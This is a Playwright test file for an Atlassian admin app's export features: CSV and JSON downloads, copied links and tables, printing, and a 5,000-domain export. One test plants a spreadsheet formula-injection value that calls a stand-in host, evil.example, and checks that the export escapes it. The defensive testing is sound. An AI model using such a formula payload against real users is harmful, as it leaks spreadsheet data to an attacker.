/** What can be taken out of the admin page: files, a table to paste, paper, and a link that opens the same view. */
import { readFileSync } from 'node:fs';
import { parse } from 'papaparse';
import type { Download, FrameLocator, Page } from 'playwright-core';
import type { InvokeReply } from '../../sandbox/host/http-api';
import { PERSONA_IDS } from '../../sandbox/site/examples/people';
import { raiseStage } from './raised-stage';

const stage = raiseStage();

interface Opened {
  readonly page: Page;
  readonly inside: FrameLocator;
}

async function open(path: string): Promise<Opened> {
  const page = await stage.open(`page=admin&user=site-admin&path=${encodeURIComponent(path)}`);
  // Headless browsers have no print dialog; a page cannot tell.
  await page.context().addInitScript(() => {
    window.print = () => {
      document.documentElement.dataset['printed'] = 'yes';
    };
  });
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.reload();
  return { page, inside: page.frameLocator('iframe.custom-ui') };
}

/** Chooses from the menu. */
async function choose(inside: FrameLocator, item: RegExp): Promise<void> {
  await inside.getByRole('button', { name: 'Export' }).click();
  await inside.getByRole('menuitem', { name: item }).click();
}

async function download({ page, inside }: Opened, item: RegExp): Promise<Download> {
  const [file] = await Promise.all([page.waitForEvent('download'), choose(inside, item)]);
  return file;
}

async function textOf(file: Download): Promise<string> {
  return readFileSync(await file.path(), 'utf8');
}

/** Calls a handler as the site admin. */
async function ask(functionKey: string, payload: unknown): Promise<void> {
  const answer = await fetch(`${stage.url}/api/invoke`, {
    method: 'POST',
    body: JSON.stringify({
      module: 'site-setup',
      userId: PERSONA_IDS['site-admin'],
      functionKey,
      payload,
    }),
  });
  const reply = (await answer.json()) as InvokeReply;
  if ('error' in reply) throw new Error(reply.error.message);
}

const copied = (page: Page): Promise<string> => page.evaluate(() => navigator.clipboard.readText());

test('the map as CSV and JSON: every kind of address, or those that are left by a filter', async () => {
  await stage.reset({ example: 'mixed' });
  const opened = await open('/map');
  const file = await download(opened, /Download CSV/);
  expect(file.suggestedFilename()).toMatch(/^invite-check-map-\d{4}-\d\d-\d\d\.csv$/);
  const text = await textOf(file);
  expect(text.startsWith('\uFEFF')).toBe(true);
  const [head = [], ...rows] = parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
  expect(head).toContain('What they get');
  const acme = rows.find(([name]) => name === 'acme.com') ?? [];
  expect(acme[head.indexOf('Outcome code')]).toBe('atlassian-account-invitation');

  const json = JSON.parse(await textOf(await download(opened, /Download JSON/))) as {
    readonly rows: readonly unknown[];
  };
  expect(json).toMatchObject({ format: 'invite-check/export@1', what: 'map' });
  expect(json.rows).toHaveLength(rows.length);
  expect(json).toHaveProperty('revision');

  const errors = await open('/map?outcome=error');
  const few = await textOf(await download(errors, /Download CSV/));
  const left = parse<string[]>(few.slice(1), { skipEmptyLines: true }).data.slice(1);
  expect(left.length).toBeGreaterThan(0);
  expect(left.length).toBeLessThan(rows.length);
  expect(stage.complaints).toEqual([]);
});

test('a value that a spreadsheet would take for a formula is none in the file', async () => {
  await stage.reset({ example: 'mixed' });
  const evil = '=HYPERLINK("http://evil.example/?"&A1,"click"),\nnext';
  const opened = await open('/findings');
  await opened.inside.getByRole('button', { name: /Everybody gets an Atlassian account/ }).click();
  await opened.inside.getByRole('button', { name: 'Mute', exact: true }).click();
  await opened.inside.getByRole('textbox', { name: /Why is this all right/ }).fill(evil);
  await opened.inside.getByRole('button', { name: 'Mute finding' }).click();
  await opened.inside.getByText(/^Muted: /).waitFor();
  const text = await textOf(await download(opened, /Download CSV/));
  const [head = [], ...rows] = parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
  const reasons = rows.map((row) => row[head.indexOf('Muted because')] ?? '');
  expect(reasons.filter((reason) => reason !== '')).toEqual([`'${evil.trim()}`]);
  expect(new Set(rows.map((row) => row.length))).toEqual(new Set([head.length]));
});

test('a copied link opens the same view; a copied table can be pasted', async () => {
  await stage.reset({ example: 'mixed' });
  const { page, inside } = await open('/map?outcome=error&sort=name');
  await choose(inside, /Copy link/);
  await page.getByText('Link copied').waitFor();
  const link = await copied(page);
  expect(link).toMatch(/\/jira\/settings\/apps\/[^/]+\/[^/]+\/map\?outcome=error&sort=name$/);
  await choose(inside, /Copy as a table/);
  await page.getByText('Table copied').waitFor();
  expect(await copied(page)).toMatch(/^Addresses\tKind\t/);
  await page.goto(link);
  await inside.getByRole('tab', { name: 'Map', selected: true }).waitFor();
  await inside.getByRole('button', { name: 'Clear filters' }).waitFor();
  expect(new URL(page.url()).searchParams.get('path')).toBe('/map?outcome=error&sort=name');
});

test('on paper: every row with site, revision and date, in black on white, and nothing else of the page', async () => {
  await stage.reset({ example: 'mixed' });
  const { page, inside } = await open('/map');
  await choose(inside, /^Print/);
  await inside.locator('html[data-printed=yes]').waitFor({ state: 'attached' });
  await page.emulateMedia({ media: 'print' });
  const sheet = inside.locator('.print-sheet');
  const text = await sheet.innerText();
  expect(text).toMatch(/Site: https:\/\/acme-mixed\.atlassian\.net/);
  expect(text).toMatch(/Record: revision \S+, saved /);
  expect(text).toMatch(/Printed /);
  expect(await inside.locator('#root').isVisible()).toBe(false);
  expect(await sheet.locator('tbody tr').count()).toBeGreaterThanOrEqual(10);
  await expect(sheet.evaluate((node) => getComputedStyle(node).color)).resolves.toBe(
    'rgb(0, 0, 0)',
  );
  await sheet.evaluate(() => window.dispatchEvent(new Event('afterprint')));
  await sheet.waitFor({ state: 'detached' });
  await page.emulateMedia({ media: null });
  await inside.getByRole('button', { name: 'Export' }).waitFor();
  expect(stage.complaints).toEqual([]);
});

test('what a change would do leaves as a file, and its link tries the same change', async () => {
  await stage.reset({ example: 'mixed' });
  const opened = await open('/what-if?change=internal+off');
  const text = await textOf(await download(opened, /Download CSV/));
  const [head = [], ...rows] = parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
  const acme = rows.find(([name]) => name === 'acme.com') ?? [];
  expect(acme[head.indexOf('Outcome code before')]).toBe('atlassian-account-invitation');
  expect(acme[head.indexOf('Outcome code after')]).toBe('error');
  await choose(opened.inside, /Copy link/);
  await opened.page.getByText('Link copied').waitFor();
  await opened.page.goto(await copied(opened.page));
  await opened.inside.getByTestId('what-if-change').waitFor();
  expect(stage.complaints).toEqual([]);
});

test('5,000 domains leave as a file within seconds', async () => {
  await stage.reset({ example: 'mixed' });
  const domains = Array.from({ length: 5000 }, (_, n) => `company-${String(n)}.example`);
  const approved = domains.map((one) => [one, { role: 'customer', approval: false }]);
  await stage.reset({ example: 'mixed', recorded: false });
  await ask('settings/save', {
    file: {
      format: 'invite-check/settings@1',
      site: { internal: true, approvedDomains: Object.fromEntries(approved) as unknown },
      projects: { HELP: { customerInvited: true } },
    },
  });
  const opened = await open('/map');
  const text = await textOf(await download(opened, /Download CSV/));
  expect(text.split('\r\n').length).toBeGreaterThan(5000);
});
